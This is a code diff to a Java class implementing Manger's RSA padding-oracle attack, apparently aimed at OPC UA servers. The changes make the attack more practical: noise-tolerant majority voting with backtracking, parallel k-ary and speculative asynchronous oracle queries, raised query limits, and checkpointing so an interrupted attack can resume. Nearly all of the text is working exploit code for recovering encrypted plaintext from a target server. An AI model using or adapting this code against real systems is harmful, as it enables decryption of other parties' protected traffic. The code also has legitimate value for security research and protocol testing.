@@ -3,19 +3,114 @@ package attacks.manger;
 import attacks.manger.oracle.Oracle;
 import attacks.manger.oracle.OracleException;
 import opcua.security.AsymCryptoUtility;
+import org.apache.log4j.Logger;
 
+import java.io.IOException;
 import java.math.BigInteger;
 import java.security.interfaces.RSAPublicKey;
+import java.util.*;
+import java.util.concurrent.CompletableFuture;
 
 /**
  * Implementation of Manger's attack
  */
 public class MangersAttack {
+    private static final Logger logger = Logger.getRootLogger();
+    private static final int CONTAINMENT_SEARCH_LIMIT = 4096;
+    private static final int CONTAINMENT_PROBES = 2;
+
     private final Oracle oracle;
+    private final MangersAttackConfiguration configuration;
     private final BigInteger N;
-    private final BigInteger e;
     private final BigInteger B;
-    private final BigInteger c;
+    private final QueryGenerator queryGenerator;
+    private final long queryLimit;
+    private final byte[] blockId;
+    private long queryCount;
+    private long wastedQueryCount;
+    private long lastCheckpointQueryCount;
+
+    private int step;
+    private BigInteger f1;
+    private BigInteger f2;
+    private BigInteger mmin;
+    private BigInteger mmax;
+    private Deque<TrustedInterval> trustedIntervals;
+
+    /**
+     * Decision of the noise-tolerant step 3
+     */
+    private static class Decision {
+        private final BigInteger mmin;
+        private final BigInteger mmax;
+        private final BigInteger i;
+        private final BigInteger f3;
+        private boolean answer;
+        private boolean verified;
+
+        Decision(BigInteger mmin, BigInteger mmax, BigInteger i, BigInteger f3, boolean answer) {
+            this.mmin = mmin;
+            this.mmax = mmax;
+            this.i = i;
+            this.f3 = f3;
+            this.answer = answer;
+        }
+    }
+
+    /**
+     * Interval of the noise-tolerant step 3 that passed a consistency check, before the decision at index
+     */
+    private static class TrustedInterval {
+        private final int index;
+        private final BigInteger mmin;
+        private final BigInteger mmax;
+
+        TrustedInterval(int index, BigInteger mmin, BigInteger mmax) {
+            this.index = index;
+            this.mmin = mmin;
+            this.mmax = mmax;
+        }
+    }
+
+    /**
+     * Node in the tree of speculatively queried step 3 decisions
+     */
+    private class SpeculationNode {
+        private final BigInteger mmin;
+        private final BigInteger mmax;
+        private BigInteger i;
+        private BigInteger f3;
+        private CompletableFuture<Boolean> answer;
+        private SpeculationNode lessB;
+        private SpeculationNode geqB;
+
+        SpeculationNode(BigInteger mmin, BigInteger mmax) {
+            this.mmin = mmin;
+            this.mmax = mmax;
+            if(!isFinal()) {
+                BigInteger ftmp = B.shiftLeft(1).divide(mmax.subtract(mmin));                   //3.2
+                this.i = ftmp.multiply(mmin).divide(N);                                         //3.3
+                this.f3 = MangerUtility.divideCeiling(i.multiply(N), mmin);                     //3.4
+            }
+        }
+
+        boolean isFinal() {
+            return mmax.compareTo(mmin) <= 0;
+        }
+
+        SpeculationNode child(boolean answer) {
+            if(answer) {
+                if(lessB == null) {
+                    lessB = new SpeculationNode(mmin, i.multiply(N).add(B).divide(f3));                             //3.5b
+                }
+                return lessB;
+            }
+            if(geqB == null) {
+                geqB = new SpeculationNode(MangerUtility.divideCeiling(i.multiply(N).add(B), f3), mmax);            //3.5a
+            }
+            return geqB;
+        }
+    }
 
     /**
      * Constructor
@@ -24,53 +119,445 @@ public class MangersAttack {
      * @param publicKey The public key of the target server
      */
     public MangersAttack(byte[] cipherBlock, Oracle oracle, RSAPublicKey publicKey) {
+        this(cipherBlock, oracle, publicKey, new MangersAttackConfiguration());
+    }
+
+    /**
+     * Constructor
+     * @param cipherBlock Initial valid cipher block
+     * @param oracle Oracle that is queried in the process
+     * @param publicKey The public key of the target server
+     * @param configuration Configuration of the attack
+     */
+    public MangersAttack(byte[] cipherBlock, Oracle oracle, RSAPublicKey publicKey, MangersAttackConfiguration configuration) {
         this.oracle = oracle;
+        this.configuration = configuration;
         this.N = publicKey.getModulus();
-        this.e = publicKey.getPublicExponent();
         this.B = BigInteger.ONE.shiftLeft(N.bitLength() - 8);
-        this.c = new BigInteger(1, cipherBlock);
+        this.queryGenerator = new QueryGenerator(cipherBlock, publicKey);
+        this.queryLimit = computeQueryLimit();
+        this.blockId = MangersAttackCheckpoint.computeBlockId(cipherBlock);
     }
 
+    /**
+     * Executes the attack from the beginning
+     * @return The recovered plaintext block
+     * @throws OracleException
+     */
     public byte[] executeAttack() throws OracleException {
+        step = 1;
+        f1 = BigInteger.valueOf(2);                                                     //1.1
+        f2 = null;
+        mmin = null;
+        mmax = null;
+        trustedIntervals = null;
+        queryCount = 0;
+        wastedQueryCount = 0;
+        lastCheckpointQueryCount = 0;
+        return continueAttack();
+    }
+
+    /**
+     * Continues an interrupted attack from the checkpoint file of the configuration
+     * @return The recovered plaintext block
+     * @throws OracleException If the checkpoint cannot be read, belongs to a different cipher block or the attack fails
+     */
+    public byte[] resumeAttack() throws OracleException {
+        if(configuration.getCheckpointFile() == null) {
+            throw new OracleException("No checkpoint file configured");
+        }
+        MangersAttackCheckpoint checkpoint;
+        try {
+            checkpoint = MangersAttackCheckpoint.read(configuration.getCheckpointFile());
+        } catch (IOException e) {
+            throw new OracleException(e);
+        }
+        if(!Arrays.equals(checkpoint.getBlockId(), blockId)) {
+            throw new OracleException("Checkpoint belongs to a different cipher block");
+        }
+        step = checkpoint.getStep();
+        f1 = checkpoint.getF1();
+        f2 = checkpoint.getF2();
+        mmin = checkpoint.getMmin();
+        mmax = checkpoint.getMmax();
+        trustedIntervals = null;
+        queryCount = checkpoint.getQueryCount();
+        wastedQueryCount = 0;
+        lastCheckpointQueryCount = queryCount;
+        return continueAttack();
+    }
+
+    private byte[] continueAttack() throws OracleException {
+        try {
+            if(step == 1) {
+                while(queryOracle(f1)) {                                                //1.2
+                    f1 = f1.shiftLeft(1);                                               //1.3a
+                    checkpointIfDue();
+                }
+                if(configuration.isNoiseTolerant()) {
+                    confirmStep1();
+                }
+                step = 2;
+                f2 = N.add(B).divide(B).multiply(f1.divide(BigInteger.valueOf(2)));    //2.1
+                checkpointIfDue();
+            }
+            if(step == 2) {
+                while(!queryOracle(f2)) {                                               //2.2
+                    f2 = f2.add(f1.divide(BigInteger.valueOf(2)));                      //2.3a
+                    checkpointIfDue();
+                }
+                if(configuration.isNoiseTolerant()) {
+                    confirmStep2();
+                }
+                step = 3;
+                mmin = MangerUtility.divideCeiling(N, f2);                              //3.1
+                mmax = N.add(B).divide(f2);
+                checkpointIfDue();
+            }
+            if(configuration.isNoiseTolerant()) {
+                executeNoiseTolerantStep3();
+            } else if(configuration.getSearchArity() > 2) {
+                executeKaryStep3();
+            } else if(configuration.getSpeculationDepth() > 1) {
+                executeSpeculativeStep3();
+            } else {
+                while(mmax.compareTo(mmin) > 0) {
+                    BigInteger ftmp = B.shiftLeft(1).divide(mmax.subtract(mmin));       //3.2
+                    BigInteger i = ftmp.multiply(mmin).divide(N);                       //3.3
+                    BigInteger f3 = MangerUtility.divideCeiling(i.multiply(N), mmin);   //3.4
+                    if (queryOracle(f3)) {
+                        mmax = i.multiply(N).add(B).divide(f3);                         //3.5b
+                    } else {
+                        mmin = MangerUtility.divideCeiling(i.multiply(N).add(B), f3);   //3.5a
+                    }
+                    checkpointIfDue();
+                }
+            }
+        } catch (OracleException e) {
+            writeCheckpoint();
+            throw e;
+        }
+        logger.debug("Attack finished after " + queryCount + " queries");
+        return AsymCryptoUtility.convertBigInteger(mmax, queryGenerator.getBlockSize());
+    }
+
+    /**
+     * Step 3 with speculative look-ahead. While the answer for the current interval is pending, the queries for both
+     * possible successor intervals are already in flight, up to the configured depth. The branch that turns out to be
+     * wrong is discarded.
+     */
+    private void executeSpeculativeStep3() throws OracleException {
+        SpeculationNode node = new SpeculationNode(mmin, mmax);
+        while(!node.isFinal()) {
+            speculate(node, configuration.getSpeculationDepth());
+            throwIfQueryLimitExceeded();
+            queryCount++;
+            boolean answer = Oracle.join(node.answer);
+            SpeculationNode next = node.child(answer);
+            discard(node.child(!answer));
+            node = next;
+            mmin = node.mmin;
+            mmax = node.mmax;
+            checkpointIfDue();
+        }
+    }
+
+    /**
+     * Step 3 as k-ary search. Each round splits [mmin, mmax] at k-1 boundaries and queries all of them in parallel.
+     * For a boundary t, steps 3.2 to 3.4 are applied to the interval [mmin, 2t-mmin], so that the answer tells whether
+     * m lies below (iN+B)/f, which is approximately t. The answers of a round are intersected.
+     */
+    private void executeKaryStep3() throws OracleException {
+        BigInteger arity = BigInteger.valueOf(configuration.getSearchArity());
+        while(mmax.compareTo(mmin) > 0) {
+            BigInteger width = mmax.subtract(mmin);
+            List<BigInteger> is = new ArrayList<>();
+            List<BigInteger> fs = new ArrayList<>();
+            List<byte[]> queries = new ArrayList<>();
+            BigInteger previous = mmin;
+            for(int j=1; j<configuration.getSearchArity(); j++) {
+                BigInteger t = mmin.add(width.multiply(BigInteger.valueOf(j)).divide(arity)).max(mmin.add(BigInteger.ONE));
+                if(t.compareTo(previous) <= 0) {
+                    continue;
+                }
+                previous = t;
+                BigInteger ftmp = B.divide(t.subtract(mmin));                                   //3.2
+                BigInteger i = ftmp.multiply(mmin).divide(N);                                   //3.3
+                if(i.signum() == 0) {
+                    continue;
+                }
+                BigInteger f3 = MangerUtility.divideCeiling(i.multiply(N), mmin);                //3.4
+                is.add(i);
+                fs.add(f3);
+                queries.add(queryGenerator.generate(f3));
+            }
+            if(queries.isEmpty()) {
+                throw new OracleException("Unable to split interval in step 3");
+            }
+            queryCount += queries.size();
+            throwIfQueryLimitExceeded();
+            List<Boolean> answers = oracle.checkValidity(queries);
+            BigInteger newMin = mmin;
+            BigInteger newMax = mmax;
+            for(int j=0; j<answers.size(); j++) {
+                BigInteger boundary = is.get(j).multiply(N).add(B);
+                if(answers.get(j)) {
+                    newMax = newMax.min(boundary.divide(fs.get(j)));                            //3.5b
+                } else {
+                    newMin = newMin.max(MangerUtility.divideCeiling(boundary, fs.get(j)));      //3.5a
+                }
+            }
+            if(newMin.compareTo(newMax) > 0) {
+                throw new OracleException("Inconsistent oracle answers in step 3");
+            }
+            mmin = newMin;
+            mmax = newMax;
+            checkpointIfDue();
+        }
+    }
 
-        //Step 1:
-        BigInteger f1 = BigInteger.valueOf(2);                                          //1.1
-        while(queryOracle(c, f1)) {                                                     //1.2
-            f1 = f1.shiftLeft(1);                                                       //1.3a
+    /**
+     * Step 1 ends at the first f1 with an invalid answer. Confirms by majority votes that f1 is invalid and f1/2 is
+     * valid, and moves f1 otherwise.
+     */
+    private void confirmStep1() throws OracleException {
+        while(true) {
+            if(queryOracleMajority(f1)) {
+                f1 = f1.shiftLeft(1);
+            } else if(f1.compareTo(BigInteger.TWO) > 0 && !queryOracleMajority(f1.shiftRight(1))) {
+                f1 = f1.shiftRight(1);
+            } else {
+                return;
+            }
+            checkpointIfDue();
         }
+    }
 
-        //Step 2:
-        BigInteger f2 = N.add(B).divide(B).multiply(f1.divide(BigInteger.valueOf(2)));  //2.1
-        while(!queryOracle(c, f2)) {                                                    //2.2
-            f2 = f2.add(f1.divide(BigInteger.valueOf(2)));                              //2.3a
+    /**
+     * Step 2 ends at the first f2 with a valid answer. Confirms by majority votes that f2 is valid and its predecessor
+     * is invalid, and moves f2 otherwise.
+     */
+    private void confirmStep2() throws OracleException {
+        BigInteger increment = f1.divide(BigInteger.valueOf(2));
+        BigInteger first = N.add(B).divide(B).multiply(increment);
+        while(true) {
+            if(!queryOracleMajority(f2)) {
+                f2 = f2.add(increment);
+            } else if(f2.compareTo(first) > 0 && queryOracleMajority(f2.subtract(increment))) {
+                f2 = f2.subtract(increment);
+            } else {
+                return;
+            }
+            checkpointIfDue();
         }
+    }
 
-        //Step 3:
-        BigInteger mmin = MangerUtility.divideCeiling(N, f2);                                //3.1
-        BigInteger mmax = N.add(B).divide(f2);
+    /**
+     * Step 3 for noisy oracles. The binary search is interrupted regularly to verify by majority vote that m still
+     * lies in [mmin, mmax], after which the interval is trusted. On a contradiction, the decisions since the last
+     * trusted interval are re-queried by majority vote, starting from that interval. If none of them changes, the
+     * trusted interval before is considered doubtful as well.
+     */
+    private void executeNoiseTolerantStep3() throws OracleException {
+        List<Decision> decisions = new ArrayList<>();
+        trustedIntervals = new ArrayDeque<>();
+        trustedIntervals.push(new TrustedInterval(0, mmin, mmax));
+        int decisionsSinceCheck = 0;
+        while(true) {
+            if(mmax.compareTo(mmin) > 0 && decisionsSinceCheck < configuration.getConsistencyCheckInterval()) {
+                BigInteger ftmp = B.shiftLeft(1).divide(mmax.subtract(mmin));           //3.2
+                BigInteger i = ftmp.multiply(mmin).divide(N);                           //3.3
+                BigInteger f3 = MangerUtility.divideCeiling(i.multiply(N), mmin);       //3.4
+                Decision decision = new Decision(mmin, mmax, i, f3, queryOracle(f3));
+                decisions.add(decision);
+                applyDecision(decision);
+                decisionsSinceCheck++;
+                checkpointIfDue();
+                continue;
+            }
+            decisionsSinceCheck = 0;
+            Boolean contained = mmin.compareTo(mmax) <= 0 ? checkContainment() : Boolean.FALSE;
+            if(contained == null) {
+                continue;
+            }
+            if(contained) {
+                trustedIntervals.push(new TrustedInterval(decisions.size(), mmin, mmax));
+                if(mmax.compareTo(mmin) <= 0) {
+                    trustedIntervals = null;
+                    return;
+                }
+                continue;
+            }
+            backtrack(decisions);
+            checkpointIfDue();
+        }
+    }
+
+    private void backtrack(List<Decision> decisions) throws OracleException {
+        while(true) {
+            TrustedInterval trusted = trustedIntervals.peek();
+            mmin = trusted.mmin;
+            mmax = trusted.mmax;
+            for(int index = trusted.index; index < decisions.size(); index++) {
+                Decision decision = decisions.get(index);
+                if(!decision.verified) {
+                    boolean answer = queryOracleMajority(decision.f3);
+                    decision.verified = true;
+                    if(answer != decision.answer) {
+                        decision.answer = answer;
+                        applyDecision(decision);
+                        decisions.subList(index + 1, decisions.size()).clear();
+                        return;
+                    }
+                }
+                applyDecision(decision);
+            }
+            if(trustedIntervals.size() == 1) {
+                //A majority vote itself may have been wrong, so the decisions become doubtful again
+                for(Decision decision : decisions) {
+                    decision.verified = false;
+                }
+                return;
+            }
+            trustedIntervals.pop();
+        }
+    }
+
+    private void applyDecision(Decision decision) {
+        BigInteger boundary = decision.i.multiply(N).add(B);
+        mmin = decision.mmin;
+        mmax = decision.mmax;
+        if(decision.answer) {
+            mmax = boundary.divide(decision.f3);                                        //3.5b
+        } else {
+            mmin = MangerUtility.divideCeiling(boundary, decision.f3);                  //3.5a
+        }
+    }
+
+    /**
+     * Checks by majority vote whether m lies in [mmin, mmax]. Searches factors f and i with iN <= f*mmin and
+     * f*mmax < iN+B, so that f*m mod N < B exactly for m in the interval. A plaintext outside of the interval is mapped
+     * to a valid one only if f*m wraps around into [iN', iN'+B) for some other i', so two independent factors are
+     * queried.
+     * @return Whether m lies in the interval, or null if no suitable factor was found
+     */
+    private Boolean checkContainment() throws OracleException {
+        BigInteger i = B.shiftRight(1).divide(mmax.subtract(mmin).add(BigInteger.ONE)).multiply(mmin).divide(N);
+        int probes = 0;
+        for(int attempt = 0; attempt < CONTAINMENT_SEARCH_LIMIT && i.signum() > 0 && probes < CONTAINMENT_PROBES; attempt++) {
+            BigInteger iN = i.multiply(N);
+            BigInteger f = MangerUtility.divideCeiling(iN, mmin);
+            if(f.multiply(mmax).subtract(iN).compareTo(B) < 0) {
+                if(!queryOracleMajority(f)) {
+                    return false;
+                }
+                probes++;
+            }
+            i = i.subtract(BigInteger.ONE);
+        }
+        return probes > 0 ? Boolean.TRUE : null;
+    }
 
-        do {
-            BigInteger ftmp = B.shiftLeft(1).divide(mmax.subtract(mmin));               //3.2
-            BigInteger i = ftmp.multiply(mmin).divide(N);                               //3.3
-            BigInteger f3 = MangerUtility.divideCeiling(i.multiply(N), mmin);                //3.4
-            if (queryOracle(c, f3)) {
-                mmax = i.multiply(N).add(B).divide(f3);                                 //3.5b
+    private boolean queryOracleMajority(BigInteger manipulation) throws OracleException {
+        int majority = configuration.getVotes() / 2 + 1;
+        int valid = 0;
+        int invalid = 0;
+        while(valid < majority && invalid < majority) {
+            if(queryOracle(manipulation)) {
+                valid++;
             } else {
-                mmin = MangerUtility.divideCeiling(i.multiply(N).add(B), f3);                //3.5a
+                invalid++;
             }
-        } while (mmax.compareTo(mmin) > 0);
-        System.out.println(oracle.getQueryCount());
-        byte[] b = AsymCryptoUtility.convertBigInteger(mmax, 256);
-        System.out.println(mmax);
-        return b;
+        }
+        return valid > invalid;
     }
 
-    private boolean queryOracle(BigInteger originalCipher, BigInteger manipulation) throws OracleException {
-        if(oracle.getQueryCount() > 2*N.bitLength()) {
+    private void speculate(SpeculationNode node, int depth) {
+        if(depth == 0 || node.isFinal()) {
+            return;
+        }
+        if(node.answer == null) {
+            node.answer = oracle.checkValidityAsync(queryGenerator.generate(node.f3));
+        }
+        speculate(node.child(true), depth - 1);
+        speculate(node.child(false), depth - 1);
+    }
+
+    private void discard(SpeculationNode node) {
+        if(node == null || node.answer == null) {
+            return;
+        }
+        wastedQueryCount++;
+        node.answer.cancel(false);
+        discard(node.lessB);
+        discard(node.geqB);
+    }
+
+    private boolean queryOracle(BigInteger manipulation) throws OracleException {
+        throwIfQueryLimitExceeded();
+        queryCount++;
+        return oracle.checkValidity(queryGenerator.generate(manipulation));
+    }
+
+    private void throwIfQueryLimitExceeded() throws OracleException {
+        if(queryCount > queryLimit) {
             throw new OracleException("Attack exceeded query limit");
         }
-        BigInteger query = manipulation.modPow(e, N).multiply(originalCipher).mod(N);
-        System.out.println(oracle.getQueryCount());
-        return oracle.checkValidity(AsymCryptoUtility.convertBigInteger(query, N.bitLength() / 8));
+    }
+
+    private void checkpointIfDue() {
+        if(queryCount - lastCheckpointQueryCount >= configuration.getCheckpointInterval()) {
+            writeCheckpoint();
+        }
+    }
+
+    /**
+     * A failed checkpoint does not abort the attack, the next one is attempted after the regular interval. In the
+     * noise-tolerant step 3, the last trusted interval is saved, since the decisions after it may still be reverted.
+     * A resumed attack starts from it and queries these decisions again.
+     */
+    private void writeCheckpoint() {
+        if(configuration.getCheckpointFile() == null) {
+            return;
+        }
+        lastCheckpointQueryCount = queryCount;
+        BigInteger checkpointMin = mmin;
+        BigInteger checkpointMax = mmax;
+        if(trustedIntervals != null) {
+            checkpointMin = trustedIntervals.peek().mmin;
+            checkpointMax = trustedIntervals.peek().mmax;
+        }
+        try {
+            new MangersAttackCheckpoint(step, f1, f2, checkpointMin, checkpointMax, queryCount, blockId).write(configuration.getCheckpointFile());
+        } catch (IOException e) {
+            logger.warn("Unable to write checkpoint: " + e.getMessage());
+        }
+    }
+
+    /**
+     * The original limit of 2 queries per bit is raised for a k-ary search, which needs k-1 queries per log2(k) bits,
+     * and for the majority votes of the noise-tolerant mode
+     */
+    private long computeQueryLimit() {
+        if(configuration.isNoiseTolerant()) {
+            return 2L * N.bitLength() * configuration.getVotes();
+        }
+        int arity = configuration.getSearchArity();
+        int bitsPerRound = 31 - Integer.numberOfLeadingZeros(arity);
+        return 2L * N.bitLength() * Math.max(1, (arity - 1 + bitsPerRound - 1) / bitsPerRound);
+    }
+
+    /**
+     * Returns the number of oracle answers the attack relied on
+     */
+    public long getQueryCount() {
+        return queryCount;
+    }
+
+    /**
+     * Returns the number of speculative queries whose answers were discarded
+     */
+    public long getWastedQueryCount() {
+        return wastedQueryCount;
     }
 }